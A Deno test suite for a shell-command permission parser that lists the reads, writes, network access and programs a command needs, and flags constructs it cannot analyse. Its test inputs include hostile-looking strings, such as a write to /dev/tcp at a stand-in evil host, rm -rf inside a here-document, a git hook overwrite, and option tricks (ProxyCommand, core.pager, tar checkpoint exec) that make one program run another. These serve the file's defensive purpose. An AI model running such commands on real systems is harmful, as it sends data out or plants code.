import assert from "node:assert/strict";
import { join } from "node:path";
import { formatNeed, type Need } from "../../core/domain/need.ts";
import { type ShellHost, shellNeeds } from "../../core/policy/shell_command.ts";

const PROGRAMS = new Set([
  "git",
  "ls",
  "cat",
  "echo",
  "grep",
  "sh",
  "node",
  "npm",
  "make",
  "find",
  "sort",
  "true",
]);

const host: ShellHost = {
  resolve: (path) =>
    Promise.resolve(
      path === "~" ? "/home/u" : path.startsWith("~/") ? `/home/u${path.slice(1)}` : join("/", path),
    ),
  findExecutable: (name, cwd) =>
    Promise.resolve(
      name.includes("/") ? join(cwd, name) : PROGRAMS.has(name) ? `/usr/bin/${name}` : undefined,
    ),
  isWritable: (path) => path.startsWith("/ws/"),
};

const needsOf = (command: string) => shellNeeds(command, "/ws", host);
const text = (needs: readonly Need[]) => needs.map((need) => (need.opaque ? "? " : "") + formatNeed(need));

const LITERAL: readonly (readonly [command: string, ...needs: string[]])[] = [
  ["git log --oneline", "run=git log --oneline"],
  ["git log --oneline\n", "run=git log --oneline"],
  ["git log && npm test", "run=git log", "run=npm test"],
  ["git log || npm test; ls", "run=git log", "run=npm test", "run=ls"],
  ["git log | grep x | sort -u", "run=git log", "run=grep x", "run=sort -u"],
  ["git log |& grep x", "run=git log", "run=grep x"],
  ["git status # why", "run=git status"],
  ["! grep -q x a.txt", "run=grep -q x a.txt"],
  [`echo "a b" 'c d' e\\ f`, "run=echo 'a b' 'c d' 'e f'"],
  [`echo '$HOME' \\$HOME`, "run=echo '$HOME' '$HOME'"],
  ["ls *.ts src/[ab]?.ts", "run=ls '*.ts' 'src/[ab]?.ts'"],
  ["gi\\\nt log", "run=git log"],
  [`g"i"t 'log'`, "run=git log"],
  ["make CC=gcc all", "run=make CC=gcc all"],
  ["ls > out.txt", "write=/ws/out.txt", "run=ls"],
  ["ls >> sub/out.txt 2>&1", "write=/ws/sub/out.txt", "run=ls"],
  ["ls >| out", "write=/ws/out", "run=ls"],
  ["ls &> both", "write=/ws/both", "run=ls"],
  ["sort < in.txt > /etc/out", "read=/ws/in.txt", "write=/etc/out", "run=sort"],
  ["ls <> rw", "write=/ws/rw", "read=/ws/rw", "run=ls"],
  ["ls > ~/x", "write=/home/u/x", "run=ls"],
  [`ls > "~/x"`, "write=/ws/~/x", "run=ls"],
  ["ls > /dev/null 2>/dev/null", "run=ls"],
  ["ls > /dev/../dev/null", "run=ls"],
  ["ls 2>&- >&2", "run=ls"],
  ["> only.txt", "write=/ws/only.txt"],
  ["cat > /dev/tcp/Evil.example/80", "net=evil.example:80", "run=cat"],
  ["cat <<'EOF'\n$(rm -rf x)\nEOF", "run=cat"],
  ["cat <<EOF\nplain\nEOF", "run=cat"],
  ["cat <<< 'hi there'", "run=cat"],
  ["sh ./check.sh", "run=sh ./check.sh"],
  ["sh -eu ./check.sh a -c b", "run=sh -eu ./check.sh a -c b"],
  ["find . -name '*.ts'", "run=find . -name '*.ts'"],
  ["cd sub && ls > a", "read=/ws/sub", "write=/ws/sub/a", "run=ls"],
  ["cd sub; ls > a", "read=/ws/sub", "write=/ws/sub/a", "write=/ws/a", "run=ls"],
  ["cd sub || ls > a", "read=/ws/sub", "write=/ws/a", "run=ls"],
  ["cd sub | ls; ls > a", "read=/ws/sub", "run=ls", "write=/ws/a"],
  ["cd && ls > a", "read=/home/u", "write=/home/u/a", "run=ls"],
  ["cd /a && cd b && ls > c", "read=/a", "read=/a/b", "write=/a/b/c", "run=ls"],
  ["unknown-program x", "run=unknown-program x"],
];

for (const [command, ...expected] of LITERAL) {
  Deno.test(`shellNeeds() states what ${JSON.stringify(command)} does`, async () => {
    assert.deepEqual(text(await needsOf(command)), expected);
  });
}

const OPAQUE: readonly (readonly [command: string, why: RegExp])[] = [
  ["", /no command/],
  ["echo $HOME", /variable \$HOME/],
  ['echo "${HOME}"', /variable/],
  ["echo $(rm x)", /another command prints/],
  ["echo `rm x`", /another command prints/],
  ['echo "a $(rm x)"', /another command prints/],
  ["cat <(ls)", /another command/],
  ["echo $((1+1))", /computes/],
  ["cat <<EOF\n$(rm x)\nEOF", /another command prints/],
  ["cat <<EOF\n$HOME\nEOF", /variable/],
  ['cat <<< "$x"', /variable/],
  ["f() { rm x; }; f", /function/],
  ["for a in b; do rm x; done", /loop/],
  ["while true; do rm x; done", /loop/],
  ["if true; then rm x; fi", /has an if/],
  ["case x in x) rm y;; esac", /case/],
  ["(rm x)", /shell of their own/],
  ["{ rm x; }", /braces/],
  ["[[ -f x ]]", /test/],
  ["((a=1))", /computes/],
  ["ls &", /background/],
  ["FOO=1 ls", /variable FOO/],
  ["FOO=1", /variable FOO/],
  ["export PATH=/tmp", /variable/],
  ["git {push,-f}", /several words/],
  ["l*", /which command/],
  ['""', /which command/],
  ["$'ls'", /differently/],
  ["echo $'a'", /differently/],
  ["echo @(a|b)", /differently/],
  ["sudo rm x", /sudo runs another/],
  ["/usr/bin/env ls", /env runs another/],
  ["env ls", /env runs another/],
  ["ls | xargs rm", /xargs runs another/],
  ["nohup ls", /nohup/],
  ["time ls", /time/],
  ["\\time ls", /time/],
  ["timeout 5 ls", /timeout/],
  ["nice ls", /nice/],
  ["bash -c 'rm x'", /-c runs text/],
  ["sh -ec 'rm x'", /-c runs text/],
  ["sh -o pipefail x", /may run something else/],
  ["bash --init-file x", /may run something else/],
  ["cat x | sh", /standard input/],
  ["sh -s a", /standard input/],
  ["sh -", /standard input/],
  ["find . -exec rm {} +", /-exec runs another/],
  ["find . -execdir rm {} ';'", /-execdir/],
  ["find . -fprintf out x", /-fprintf writes files/],
  ["find . -delete", /-delete deletes files/],
  ["git log --output=.git/hooks/post-commit", /--output writes a file/],
  ["git diff --outp x", /writes a file/],
  ["git -c core.pager=x log", /-c changes which programs/],
  ["git -C sub --exec-path=x log", /--exec-path=x changes/],
  ["git --config-env=core.pager=X log", /--config-env=core.pager=X changes/],
  ["git grep -Oless x", /git grep may run/],
  ["git grep --open-files x", /--open-files may run/],
  ["git fetch --upload-pack=x origin", /--upload-pack may run/],
  ["git ls-remote --upl=x origin", /--upl may run/],
  ["git rebase -x make main", /git rebase may run/],
  ["git bisect run make", /git bisect may run/],
  ["git submodule foreach make", /git submodule may run/],
  ["git filter-branch", /git filter-branch may run/],
  ["git clone -c core.fsmonitor=x y", /git clone may run/],
  ["rg --pre x y", /rg --pre runs/],
  ["rg --pre=x y", /rg --pre=x runs/],
  ["tar -x --checkpoint-action=exec=x", /--checkpoint-action=exec=x runs/],
  ["tar -Ix -cf a b", /tar -Ix runs/],
  ["ssh -oProxyCommand=x host", /runs another/],
  ["sort --compress-program=x", /runs another/],
  ["eval ls", /eval/],
  ["source x", /source/],
  [". ./x", /in the shell itself/],
  ["exec ls", /exec/],
  ["command ls", /command/],
  ["trap 'rm x' EXIT", /trap/],
  ["alias ls=rm", /variable|alias/],
  ["busybox rm x", /busybox/],
  ['echo "open', /cannot be parsed/],
  ["ls &&", /cannot be parsed/],
  ["ls ; ; ls", /cannot be parsed/],
  ["ls )", /cannot be parsed/],
  ["cat <<EOF\nnever", /closed|parsed/],
  ["ls\u0007", /control/],
  ["ls\r", /control/],
  ["ls > $OUT", /variable/],
  ["ls > *.txt", /found while it runs/],
  ["ls {fd}> x", /variable/],
  ["ls ~other/x", /somebody else/],
  ["cd -", /where cd leads/],
  ["cd a b", /where cd leads/],
  ["cd */", /where cd leads/],
];

for (const [command, why] of OPAQUE) {
  Deno.test(`shellNeeds() leaves ${JSON.stringify(command)} to a person`, async () => {
    const needs = await needsOf(command);
    const reasons = needs.filter((need) => need.opaque !== undefined).map((need) => need.opaque ?? "");
    assert.ok(reasons.some((reason) => why.test(reason)), `${JSON.stringify(needs)}`);
  });
}

const GIT: readonly (readonly [string, readonly string[]])[] = [
  ["git --no-pager log", ["run=git log"]],
  ["git -C sub push", ["run=git -C sub push", "run=git push"]],
  ["git --git-dir x --no-pager push -f", ["run=git --git-dir x --no-pager push -f", "run=git push -f"]],
  ["git --version", ["run=git --version"]],
  ["git log --output-indicator-new=x -- --output=y", ["run=git log --output-indicator-new=x -- --output=y"]],
  ["git rebase main", ["run=git rebase main"]],
  ["git grep -n x", ["run=git grep -n x"]],
];

for (const [command, needs] of GIT) {
  Deno.test(`shellNeeds() reads ${command} with and without what stands before git's command`, async () => {
    assert.deepEqual(text(await needsOf(command)), needs);
  });
}

Deno.test("shellNeeds() states the parts it understands beside the part it does not", async () => {
  assert.deepEqual(text(await needsOf("git log && sudo rm x && ls > a")), [
    "run=git log",
    "? run=sudo rm x",
    "write=/ws/a",
    "run=ls",
  ]);
});

Deno.test("shellNeeds() gives the words before an unknown one, so that a denial of them holds", async () => {
  const [need] = await needsOf("git push $REMOTE main");
  assert.deepEqual(need?.argv, ["git", "push"]);
  assert.equal(need?.target, "git push $REMOTE main");
});

Deno.test("shellNeeds() does not follow relative paths from a folder that is not known", async () => {
  const needs = await needsOf("cd $X && ls > a && ./run && ls > /abs");
  assert.deepEqual(text(needs), ["? run=cd $X", "? run=> a", "run=ls", "? run=./run", "write=/abs"]);
});

Deno.test("shellNeeds() marks executables in writable folders, also behind a link outside of them", async () => {
  const linked: ShellHost = {
    ...host,
    findExecutable: () => Promise.resolve("/usr/local/bin/tool"),
    resolve: () => Promise.resolve("/ws/tool.js"),
  };
  const [behind] = await shellNeeds("tool", "/ws", linked);
  assert.equal(behind?.inWritableFolder, true);
  const [own] = await needsOf("./check.sh");
  assert.deepEqual([own?.executable, own?.inWritableFolder], ["/ws/check.sh", true]);
  const [system] = await needsOf("git log");
  assert.deepEqual([system?.executable, system?.inWritableFolder], ["/usr/bin/git", false]);
});

Deno.test("shellNeeds() shows a here-document whole when part of it is not known", async () => {
  const command = "cat <<EOF > a\n$(rm x)\nEOF";
  const [need] = await needsOf(command);
  assert.equal(need?.target, command);
});
